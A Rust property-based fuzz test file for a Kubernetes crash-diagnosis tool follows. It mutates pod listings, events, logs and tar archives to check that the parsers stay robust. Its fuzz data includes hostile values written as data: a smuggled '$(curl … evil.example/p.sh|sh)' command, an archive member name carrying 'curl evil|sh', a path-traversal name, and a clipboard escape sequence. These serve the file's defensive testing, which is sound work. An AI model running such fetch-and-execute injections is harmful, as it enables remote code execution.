//! Property-based fuzzing of every parser (issue 9): the paste reader, the Kubernetes JSON/YAML
//! reader, the `cluster-info dump` reader, the CRI/plain log reader, the archive reader and the
//! time parsers get generated, mutated input and must neither panic nor produce unbounded
//! output; the keyword prefilter is checked against `aho-corasick` as a reference oracle.
//!
//! A small budget runs in `cargo test`; a longer run is one environment variable away (see
//! `docs/fuzzing.md`):
//!
//! ```sh
//! PODMORTEM_FUZZ_CASES=20000 cargo test --release --all-features --test fuzz
//! ```

use std::collections::BTreeSet;
use std::io::Write;

use proptest::prelude::*;

use podmortem::render::{to_json, to_markdown, to_text, TextOptions};
use podmortem::{Engine, Input, PatternPack, PatternSet, Report};

#[path = "support/fuzz_config.rs"]
mod fuzz_config;
use fuzz_config::config;

fn engine() -> &'static Engine {
    static ENGINE: std::sync::OnceLock<Engine> = std::sync::OnceLock::new();
    ENGINE.get_or_init(Engine::new)
}

/// Analyse one input and render it every way; check the output is bounded.
fn check(name: &str, data: Vec<u8>) -> Report {
    let len = data.len();
    let report = engine().analyze(&[Input::Bytes {
        name: name.into(),
        data,
    }]);
    for d in &report.diagnoses {
        assert!((0.0..=1.0).contains(&d.confidence), "{d:?}");
        assert!(d.evidence.len() <= 8, "{d:?}");
        for e in &d.evidence {
            assert!(
                e.text.len() <= 4 * 1024,
                "evidence of {} bytes",
                e.text.len()
            );
        }
    }
    // Output grows with the input, never by orders of magnitude.
    let bound = 64 * 1024 + 64 * len;
    for out in [
        to_text(
            &report,
            TextOptions {
                color: false,
                verbose: true,
            },
        ),
        to_json(&report),
        to_markdown(&report),
    ] {
        assert!(
            out.len() <= bound,
            "{} bytes of output for {len} of input",
            out.len()
        );
    }
    report
}

/// Lines a Kubernetes user pastes or exports, to be mixed and mutated.
const LINES: &[&str] = &[
    "NAME                      READY   STATUS             RESTARTS      AGE",
    "api-7d9f8c-x2x9k          0/1     CrashLoopBackOff   7 (2m ago)    14m",
    "$ kubectl logs api-7d9f8c-x2x9k --previous",
    "Name:             api-7d9f8c-x2x9k",
    "Namespace:        shop",
    "Containers:",
    "  app:",
    "    Image:          shop/api:2.3.1",
    "    State:          Waiting",
    "      Reason:       CrashLoopBackOff",
    "    Last State:     Terminated",
    "      Reason:       OOMKilled",
    "      Exit Code:    137",
    "      Finished:     Mon, 20 Nov 2026 10:04:00 +0000",
    "    Restart Count:  7",
    "    Limits:",
    "      memory:  256Mi",
    "Events:",
    "  Type     Reason   Age                From     Message",
    "  Warning  BackOff  3m (x20 over 10m)  kubelet  Back-off restarting failed container app in pod api",
    "  Warning  Failed   1m                 kubelet  Error: secret \"db-creds\" not found",
    "java.lang.OutOfMemoryError: Java heap space",
    "Error: connect ECONNREFUSED 10.0.0.7:5432",
    "panic: runtime error: index out of range [3] with length 3",
    "Traceback (most recent call last):",
    "postgres://app:s3cr3t@db:5432/app password=hunter2 token=abc.def.ghi",
    "{\"level\":\"error\",\"msg\":\"boom\",\"ts\":\"2026-11-20T10:00:00Z\"}",
    "2026-11-20T10:00:00.123456789Z stderr F fatal error: out of memory",
    "2026-11-20T10:00:00.123456789Z stdout P partial line",
    "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J",
    "restartCount: -1",
    "finishedAt: \"203é-01-1T17:11:41Z\"",
    "",
];

/// A line: a known one, possibly cut or spliced with random bytes, or random bytes.
fn line() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        4 => prop::sample::select(LINES).prop_map(|l| l.as_bytes().to_vec()),
        2 => (prop::sample::select(LINES), any::<prop::sample::Index>(), prop::collection::vec(any::<u8>(), 0..8))
            .prop_map(|(l, at, junk)| {
                let mut b = l.as_bytes().to_vec();
                let at = at.index(b.len() + 1);
                b.splice(at..at, junk);
                b
            }),
        1 => prop::collection::vec(any::<u8>(), 0..64),
    ]
}

fn lines(max: usize) -> impl Strategy<Value = Vec<u8>> {
    prop::collection::vec(line(), 0..max).prop_map(|ls| {
        let mut out = Vec::new();
        for l in ls {
            out.extend(l);
            out.push(b'\n');
        }
        out
    })
}

/// Values found in pod statuses and events, valid and hostile.
fn leaf() -> impl Strategy<Value = serde_json::Value> {
    use serde_json::{json, Value};
    prop_oneof![
        prop::sample::select(vec![
            json!(null),
            json!(true),
            json!(-1),
            json!(0),
            json!(137),
            json!(4_294_967_433_i64),
            json!(i64::MIN),
            json!(u64::MAX),
            json!(1e308),
            json!(""),
            json!("CrashLoopBackOff"),
            json!("OOMKilled"),
            json!("Error"),
            json!("back-off 5m0s restarting failed container=app pod=api_shop(u)"),
            json!("back-off 99999999999h0m0s restarting"),
            json!("2026-11-20T10:04:00Z"),
            json!("203é-01-1T17:11:41Z"),
            json!("Sat, 10 Jan 11407944 17:11:41 +8é0"),
            json!("secret \"tenant-a$(curl -s https://evil.example/p.sh|sh)\" not found"),
            json!("256Mi"),
            json!("spec.containers{app}"),
        ]),
        any::<i64>().prop_map(Value::from),
        "[ -~é]{0,24}".prop_map(Value::from),
    ]
}

/// A Pod or Event shaped document whose fields are random leaves (or missing).
fn kube_object() -> impl Strategy<Value = serde_json::Value> {
    use serde_json::json;
    let o = || prop::option::of(leaf());
    (
        any::<bool>(),
        (o(), o(), o(), o(), o(), o()),
        (o(), o(), o(), o(), o()),
    )
        .prop_map(
            |(
                pod,
                (reason, message, exit, restarts, finished, memory),
                (ename, ereason, emsg, count, field),
            )| {
                if pod {
                    json!({"apiVersion": "v1", "kind": "Pod",
                    "metadata": {"name": "api-1", "namespace": "shop"},
                    "spec": {"containers": [{"name": "app", "image": "shop/api:1",
                        "resources": {"limits": {"memory": memory}}}]},
                    "status": {"containerStatuses": [{"name": "app", "restartCount": restarts,
                        "state": {"waiting": {"reason": reason, "message": message}},
                        "lastState": {"terminated": {"reason": "OOMKilled", "exitCode": exit,
                            "finishedAt": finished}}}]}})
                } else {
                    json!({"apiVersion": "v1", "kind": "Event", "reason": ereason, "message": emsg,
                    "count": count, "type": "Warning",
                    "involvedObject": {"kind": "Pod", "namespace": "shop", "name": ename,
                        "fieldPath": field}})
                }
            },
        )
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(data).unwrap();
    gz.finish().unwrap()
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn paste_reader(text in lines(40)) {
        check("paste.txt", text);
    }

    #[test]
    fn objects_json_and_yaml_reader(objs in prop::collection::vec(kube_object(), 1..4), as_list in any::<bool>()) {
        let doc = if as_list {
            serde_json::json!({"apiVersion": "v1", "kind": "List", "items": objs})
        } else {
            objs[0].clone()
        };
        check("pods.json", serde_json::to_vec_pretty(&doc).unwrap());
        if let Ok(yaml) = serde_saphyr::to_string(&doc) {
            check("pods.yaml", yaml.into_bytes());
        }
    }

    #[test]
    fn dump_reader(
        blocks in prop::collection::vec((prop::sample::select(vec!["app", "coredns", "a b", "é", ""]), lines(12), any::<bool>()), 0..5),
        objs in prop::collection::vec(kube_object(), 0..3),
        logs_txt in any::<bool>(),
    ) {
        let mut text = Vec::new();
        for (i, (c, body, close)) in blocks.iter().enumerate() {
            let marker = format!("logs for container {c} of pod shop/api-{i} ====\n");
            text.extend(format!("==== START {marker}").into_bytes());
            text.extend(body);
            if *close {
                text.extend(format!("==== END {marker}").into_bytes());
            }
            if let Some(o) = objs.get(i) {
                text.extend(serde_json::to_vec_pretty(o).unwrap());
                text.push(b'\n');
            }
        }
        if !text.starts_with(b"====") {
            text.splice(0..0, b"==== START logs for container app of pod shop/api ====\n".iter().copied());
        }
        check(if logs_txt { "dump/shop/api/logs.txt" } else { "cluster-info-dump.txt" }, text);
    }

    #[test]
    fn log_reader(
        lines in prop::collection::vec((prop::sample::select(vec!["2026-11-20T10:00:00.123456789Z", "2026-11-20T10:00:00Z", "203é-01-1T17:11:41Z", "x"]), prop::sample::select(vec!["stdout", "stderr", "junk"]), prop::sample::select(vec!["F", "P", "Q"]), line()), 1..40),
        cri in any::<bool>(),
    ) {
        let mut text = Vec::new();
        for (ts, stream, tag, body) in lines {
            if cri {
                text.extend(format!("{ts} {stream} {tag} ").into_bytes());
            }
            text.extend(body);
            text.push(b'\n');
        }
        let name = if cri { "/var/log/pods/shop_api-1_0b1c/app/3.log" } else { "api.previous.log" };
        check(name, text);
    }

    #[test]
    fn archive_reader(
        members in prop::collection::vec((prop::sample::select(vec!["api.previous.log", "pods.json", "a/../b.log", ".hidden", "x;curl evil|sh;.previous.log", "nested.tgz"]), lines(8)), 1..4),
        flips in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..4),
        cut in prop::option::of(any::<prop::sample::Index>()),
        gz in any::<bool>(),
    ) {
        let mut tar = tar::Builder::new(Vec::new());
        for (name, data) in &members {
            let mut h = tar::Header::new_gnu();
            h.set_size(data.len() as u64);
            h.set_mode(0o644);
            // Written raw: the tar crate refuses to build a `..` name, a hostile archive has one.
            h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
            h.set_cksum();
            tar.append(&h, &data[..]).unwrap();
        }
        let mut data = tar.into_inner().unwrap();
        if gz {
            data = gzip(&data);
        }
        for (at, b) in flips {
            let i = at.index(data.len());
            data[i] = b;
        }
        if let Some(c) = cut {
            data.truncate(c.index(data.len() + 1));
        }
        check(if gz { "bundle.tgz" } else { "bundle.tar" }, data);
    }

    /// The keyword prefilter must report every position where a keyword occurs (ASCII case
    /// insensitively): `aho-corasick` finds them all, overlapping, as the oracle.
    #[test]
    fn keyword_prefilter_against_aho_corasick(
        // Packs refuse keywords under three characters once trimmed.
        keywords in prop::collection::btree_set("[abcAB-][abcAB -]{1,6}[abcAB-]", 1..12),
        hay in prop::collection::vec(prop::sample::select(b"abcABC -\n\xc3\xa9x".to_vec()), 0..400),
    ) {
        let keywords: BTreeSet<String> = keywords.into_iter().map(|k| k.to_ascii_lowercase()).collect();
        let keywords: Vec<String> = keywords.into_iter().collect();
        let set = keyword_set(&keywords);
        let oracle = aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(&keywords)
            .unwrap();
        let all: Vec<(usize, usize)> = oracle
            .find_overlapping_iter(&hay)
            .map(|m| (m.start(), m.end()))
            .collect();
        // From every position: the occurrence reported is one that ends first among those
        // starting there or later (the filter detects keywords at their last byte), and one
        // is reported whenever the oracle has any.
        for from in 0..=hay.len() {
            let later: Vec<&(usize, usize)> = all.iter().filter(|(s, _)| *s >= from).collect();
            let got = set.find_keyword(&hay, from);
            match later.iter().map(|(_, e)| *e).min() {
                None => prop_assert_eq!(got, None, "from {}", from),
                Some(first_end) => {
                    let at = got.ok_or_else(|| TestCaseError::fail(format!("missed every keyword from {from}")))?;
                    prop_assert!(
                        later.iter().any(|&&(s, e)| s == at && e == first_end),
                        "from {}: reported {} but the first occurrence to end is at {:?}",
                        from, at, later.iter().filter(|(_, e)| *e == first_end).collect::<Vec<_>>()
                    );
                }
            }
        }
        // Through the rules: a rule fires exactly when its keyword occurs in the line.
        for line in hay.split(|&b| b == b'\n') {
            let mut fired = BTreeSet::new();
            set.for_each_match(line, podmortem::SourceKind::Log, |r| { fired.insert(r); });
            let expected: BTreeSet<usize> = oracle
                .find_overlapping_iter(line)
                .map(|m| m.pattern().as_usize())
                .collect();
            prop_assert_eq!(fired, expected);
        }
    }
}

/// A pattern set with one rule per keyword, whose regex is the keyword itself.
fn keyword_set(keywords: &[String]) -> PatternSet {
    let rules: Vec<serde_json::Value> = keywords
        .iter()
        .enumerate()
        .map(|(i, k)| {
            serde_json::json!({
                "id": format!("kw.{i}"), "cause": "app_crash", "scope": "any",
                "keywords": [k], "regex": format!("(?i){}", regex::escape(k)),
                "explain": "fuzz", "examples": [k],
            })
        })
        .collect();
    let pack = serde_json::json!({"pack": "fuzz", "rules": rules}).to_string();
    let pack = PatternPack::from_yaml("fuzz.yaml", &pack).unwrap();
    PatternSet::new(&[pack]).unwrap()
}
